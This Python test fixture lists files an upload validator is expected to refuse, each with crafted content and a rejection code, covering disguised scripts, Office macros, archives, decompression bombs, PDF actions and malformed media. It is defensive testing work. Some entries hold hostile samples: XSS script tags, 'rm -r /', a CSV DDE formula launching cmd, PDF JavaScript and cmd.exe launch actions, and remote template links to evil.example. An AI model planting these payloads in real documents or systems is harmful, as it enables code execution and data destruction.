"""The table of files that are refused: name, content, and the code of the refusal."""

import gzip
import io
import random
import tarfile

from . import made, made_bad
from .made_bad import ELF, OLE, PHP, WINDOWS, WORDS, Bad

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def tar():
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("notes.txt"))
    return file.getvalue()


PDF = made.pdf(["One", "Two", "Three"])
DOCX = made.docx()
ZERO = b"\0"
NOISE = random.Random(6).randbytes(1_600_000)

BAD_FILES = [
    # What the name says alone.
    Bad("no ending", WORDS, "file_type"),
    Bad("plan.xyz", WORDS, "file_type"),
    Bad("report.pdf.exe", PDF, "file_program"),
    Bad("picture.svg", SVG, "file_svg"),
    Bad("page.html", HTML, "file_html"),
    Bad("run.sh", b"#!/bin/sh\n", "file_script"),
    Bad("files.zip", made.zipped({"a.txt": "a"}), "file_archive"),
    Bad("plan.docm", DOCX, "file_macros"),
    Bad("plan.doc", OLE, "file_old_office"),
    Bad("film.mov", made.mp4(brand=b"qt  "), "video_container"),
    Bad("empty.pdf", b"", "file_empty"),
    # Pages, drawings, scripts and programs under another name.
    Bad("picture.png", SVG, "file_svg"),
    Bad("picture.jpg", b'<?xml version="1.0"?><!-- a --><!-- b -->\n' + SVG, "file_svg"),
    Bad("notes.txt", b"\xef\xbb\xbf  " + SVG, "file_svg"),
    Bad("notes.txt", HTML, "file_html"),
    Bad("notes.txt", HTML.decode().encode("utf-16"), "file_html"),
    Bad("table.csv", b"\n\n <table><tr>", "file_html"),
    Bad("plan.pdf", HTML + PDF, "file_html"),
    Bad("notes.txt", b"<script>alert(1)</script>", "file_script"),
    Bad("notes.txt", PHP, "file_script"),
    Bad("notes.txt", b"#!/bin/sh\nrm -r /\n", "file_script"),
    Bad("table.csv", b"a,b\n=cmd|'/C calc'!A0,1\n", "file_script"),
    Bad("plan.pdf", ELF, "file_program"),
    Bad("notes.txt", WINDOWS, "file_program"),
    Bad("plan.docx", b"\xca\xfe\xba\xbe\0\0\0\x34", "file_program"),
    Bad("photo.jpg", b"\xcf\xfa\xed\xfe\x07\0\0\x01", "file_program"),
    # Archives.
    Bad("plan.docx", made.zipped({"a.txt": "a"}), "file_archive"),
    Bad("plan.pdf", gzip.compress(PDF), "file_archive"),
    Bad("plan.pdf", tar(), "file_archive"),
    Bad("plan.pdf", b"7z\xbc\xaf\x27\x1c\0\4", "file_archive"),
    Bad("plan.pdf", b"Rar!\x1a\x07\x01\0", "file_archive"),
    Bad("notes.txt", b"BZh91AY&SY" + bytes(20), "file_archive"),
    # The name says one type we take, the content is another.
    Bad("plan.pdf", made.png(), "file_named_wrongly"),
    Bad("photo.jpg", made.png(), "file_named_wrongly"),
    Bad("plan.docx", made.odt(), "file_named_wrongly"),
    Bad("plan.xlsx", DOCX, "file_named_wrongly"),
    Bad("notes.txt", PDF, "file_named_wrongly"),
    Bad("film.mp4", made.webm(), "file_named_wrongly"),
    Bad("plan.pdf", WORDS, "file_mismatch"),
    Bad("photo.jpg", made.picture("BMP"), "file_mismatch"),
    Bad("photo.jpg", ZERO * 16 + b"ftypheic", "file_mismatch"),
    Bad("photo.avif", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1", "file_mismatch"),
    Bad("plan.odt", made.opendocument("text-template", "<office:text/>"), "file_mismatch"),
    # Two kinds at once.
    Bad("plan.pdf", b"junk\n" + PDF, "file_two_kinds"),
    Bad("plan.pdf", PDF + made.zipped({"a.txt": "a"}), "file_two_kinds"),
    Bad("plan.pdf", PDF + HTML, "file_two_kinds"),
    Bad("photo.jpg", made.jpeg() + made.zipped({"a.class": ELF}), "file_two_kinds"),
    Bad("photo.gif", made.gif() + DOCX, "file_two_kinds"),
    Bad("plan.docx", DOCX + b"junk", "file_two_kinds"),
    Bad("plan.docx", DOCX[:4] + b"junk" + DOCX[4:], "file_two_kinds"),
    # Text that is none.
    Bad("notes.txt", b"binary\0", "file_not_text"),
    Bad("notes.txt", b"a \x1b[31mred\x1b[0m word", "file_not_text"),
    Bad("notes.txt", b"undefined in windows-1252: \x81\x8d", "file_not_text"),
    Bad("notes.txt", "добрый день".encode("cp1251"), "file_not_text"),
    Bad("notes.txt", "half a letter".encode("utf-16")[:-1], "file_not_text"),
    Bad("notes.txt", "four bytes a letter".encode("utf-32"), "file_not_text"),
    # Office.
    Bad("plan.docx", OLE, "file_old_office"),
    Bad("plan.docx", made_bad.ole("EncryptionInfo", "EncryptedPackage"), "file_encrypted"),
    Bad("plan.docx", made_bad.encrypted_member(), "file_encrypted"),
    Bad(
        "plan.odt",
        made_bad.odt_saying(
            b"/></manifest:manifest>",
            b"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>",
            "META-INF/manifest.xml",
        ),
        "file_encrypted",
    ),
    Bad("plan.docx", made.docx(more={"word/vbaProject.bin": made_bad.ole("VBA")}), "file_macros"),
    Bad("plan.xlsx", made.xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "file_macros"),
    Bad("plan.docx", made.docx(more={"word/activeX/activeX1.bin": "x"}), "file_macros"),
    Bad("plan.docx", made_bad.typed("application/vnd.ms-office.vbaProject"), "file_macros"),
    Bad(
        "plan.docx",
        made_bad.typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "file_macros",
    ),
    Bad("plan.odt", made.odt(more={"Basic/Standard/Module1.xml": "<x/>"}), "file_macros"),
    Bad("plan.ods", made.ods(more={"Scripts/python/run.py": "print()"}), "file_macros"),
    Bad(
        "plan.odt",
        made_bad.odt_saying(
            b"<office:text>",
            b'<office:text><text:a xmlns:xlink="x" xlink:href="vnd.sun.star.script:run.py$main"/>',
        ),
        "file_macros",
    ),
    Bad("plan.docx", made_bad.embedding(made_bad.ole("_VBA_PROJECT")), "file_macros"),
    Bad("plan.docx", made_bad.embedding(made_bad.ole("\1Ole10Native")), "file_embedded"),
    Bad("plan.docx", made_bad.embedding(WINDOWS), "file_embedded"),
    Bad("plan.odt", made.odt(more={"Pictures/1.png": ELF}), "file_embedded"),
    Bad("plan.docx", made_bad.embedding(made.zipped({"a.txt": "a"})), "file_embedded"),
    Bad(
        "plan.docx",
        made_bad.embedding(made.xlsx(more={"xl/vbaProject.bin": "x"})),
        "file_macros",
    ),
    Bad("plan.docx", made_bad.relating("attachedTemplate", "https://evil.example/a.dotm"), "file_fetches"),
    Bad("plan.docx", made_bad.relating("oleObject", "mhtml:https://evil.example/!x"), "file_fetches"),
    Bad("plan.docx", made_bad.relating("frame", "\\\\evil.example\\share\\a"), "file_fetches"),
    Bad("plan.docx", DOCX[:-30], "file_incomplete"),
    Bad("plan.docx", DOCX[: len(DOCX) // 2], "file_incomplete"),
    Bad("plan.docx", made_bad.with_last(DOCX, b"word/document.xml", b"/etc/document.xml"), "file_unreadable"),
    Bad("plan.docx", made.docx(more={"../evil.xml": "x"}), "file_unreadable"),
    Bad(
        "plan.docx",
        made_bad.renamed(
            DOCX,
            "[Content_Types].xml",
            lambda xml: b'<!DOCTYPE a [<!ENTITY b "c">]>' + xml.partition(b"?>")[2],
        ),
        "file_unreadable",
    ),
    # Bombs.
    Bad("plan.docx", made.docx(more={"word/media/image1.bmp": ZERO * 10_000_000}), "file_unpacks_too_large"),
    Bad(
        "plan.docx",
        made_bad.embedding(made.docx(more={"x": ZERO * 10_000_000}), "word/embeddings/a.docx"),
        "file_unpacks_too_large",
    ),
    Bad(
        "plan.docx",
        made_bad.embedding(made_bad.embedding(DOCX, "word/a.docx"), "word/b.docx"),
        "file_unpacks_too_large",
    ),
    Bad(
        "plan.docx",
        made_bad.saying_size(made.docx(more={"word/media/1": NOISE}), "word/media/1", 316_000_000),
        "file_unpacks_too_large",
    ),
    Bad(
        "plan.docx",
        lambda: made.docx(more={f"x/{number}": "" for number in range(5001)}),
        "file_unpacks_too_large",
    ),
    Bad("plan.docx", made_bad.overlapping_docx(), "file_unpacks_too_large"),
    Bad("plan.docx", made_bad.saying_size(DOCX, "word/document.xml", 10), "file_unpacks_too_large"),
    Bad("plan.pdf", lambda: made_bad.packed_pdf(ZERO * 70_000_000), "file_unpacks_too_large"),
    Bad("plan.pdf", lambda: made_bad.page_bomb(), "file_unreadable"),
    Bad("photo.png", lambda: made_bad.png_of(20_000, 20_000), "file_too_many_pixels"),
    Bad("photo.webp", made_bad.webp_header(16_000, 16_000), "file_too_many_pixels"),
    Bad("photo.gif", made.gif().replace(b"\x3c\0\x28\0", b"\xff" * 4), "file_too_many_pixels"),
    # PDF.
    Bad("plan.pdf", made_bad.encrypted_pdf(), "file_encrypted"),
    Bad("plan.pdf", made_bad.encrypted_pdf(user=b""), "file_encrypted"),
    Bad("plan.pdf", PDF[:-10], "file_incomplete"),
    Bad("plan.pdf", PDF[: len(PDF) // 2], "file_incomplete"),
    Bad("plan.pdf", PDF + PDF[: len(PDF) // 2], "file_incomplete"),
    Bad("plan.pdf", b"%PDF-1.7\n%%EOF\n", "file_unreadable"),
    Bad("plan.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "file_unreadable"),
    Bad("plan.pdf", made_bad.packed_pdf(b"", "[/ASCII85Decode /FlateDecode]"), "file_unreadable"),
    *(
        Bad("plan.pdf", made.pdf(catalog=catalog), "file_pdf_actions")
        for catalog in (
            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
            "/OpenAction << /S/J#61vaScript /JS 9 0 R >>",
            "/OpenAction << /#53 %comment\n/JavaScript /JS (1) >>",
            "/AA << /WC << /S /Launch /F (cmd.exe) >> >>",
            "/AcroForm << /XFA 9 0 R >>",
        )
    ),
    Bad("plan.pdf", made_bad.packed_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "file_pdf_actions"),
    Bad(
        "plan.pdf",
        made.pdf(more_objects=["<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"]),
        "file_embedded",
    ),
    # Pictures.
    Bad("photo.jpg", made.jpeg((400, 400))[:700], "file_unreadable"),
    Bad("photo.png", made.png((400, 400))[:-40], "file_unreadable"),
    Bad("photo.avif", made.avif((400, 400))[:-40], "file_unreadable"),
    Bad("photo.gif", b"GIF89a", "file_unreadable"),
    # Videos.
    Bad("film.mp4", made.mp4()[:-100], "file_incomplete"),
    Bad("film.mp4", made.mp4()[:200], "file_incomplete"),
    Bad("film.mp4", made.mp4() + b"junk", "file_incomplete"),
    Bad("film.mp4", made.mp4() + ZERO * 100, "file_unreadable"),
    Bad("film.mp4", made_bad.mp4_beyond(), "file_incomplete"),
    Bad("film.mp4", made_bad.mp4_elsewhere(), "file_fetches"),
    Bad("film.mp4", made.mp4(brand=b"qt  "), "video_container"),
    Bad("film.mp4", made.mp4(video=False), "video_without_picture"),
    Bad("film.mp4", made.mp4(video_codec=b"hvc1"), "video_codec"),
    Bad("film.webm", made.webm()[:-100], "file_incomplete"),
    Bad("film.webm", made.webm().replace(b"webm", b"matr", 1), "video_container"),
    Bad("film.webm", b"\x1a\x45\xdf\xa3" + bytes(40), "file_unreadable"),
    # Captions.
    Bad("film.vtt", lambda: made.vtt() * 20_000, "captions_too_large"),
    Bad("film.vtt", "WEBVTT\n\n00:00.000 --> 00:02.000\ncafé\n".encode("cp1252"), "captions_not_utf8"),
    Bad("film.vtt", b"1\n00:00:01,000 --> 00:00:02,000\nHello\n", "captions_header"),
    Bad("film.vtt", b"WEBVTTX\n\n00:00.000 --> 00:02.000\nHello\n", "captions_header"),
    Bad("film.vtt", b"WEBVTT\n", "captions_none"),
    Bad("film.vtt", made_bad.cues("00:00:01,000 --> 00:00:02,000", "Hello"), "captions_time"),
    Bad("film.vtt", made_bad.cues("00:03.000 --> 00:02.000", "Hello"), "captions_order"),
    Bad("film.vtt", made_bad.cues("00:02.000 --> 00:02.000", "Hello"), "captions_order"),
    Bad("film.vtt", made_bad.cues("Hello", "there"), "captions_time"),
]
